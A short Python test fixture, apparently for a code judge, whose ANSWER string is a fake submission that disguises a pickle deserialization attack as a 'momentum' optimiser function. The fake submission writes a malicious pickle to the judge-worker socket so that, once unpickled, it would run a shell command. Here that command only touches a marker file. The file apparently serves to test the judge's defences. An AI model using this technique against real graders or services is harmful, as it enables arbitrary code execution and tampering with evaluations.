"""An answer in the shape of a pickle, which would run a command if it were unpickled."""

ANSWER = """\
import socket
import struct

import wire

connection = socket.socket(fileno=3)
def momentum(params, grads, state=None, *, lr, beta=0.9):
    import os
    import pickle

    class Command:
        def __reduce__(self):
            return os.system, ("touch /tmp/left-by-a-student",)

    data = pickle.dumps(Command())
    connection.sendall(struct.pack("<BII", 4, 3, len(data)) + data)
"""
ONLY_OURS = "the wire between judge and worker is ours"
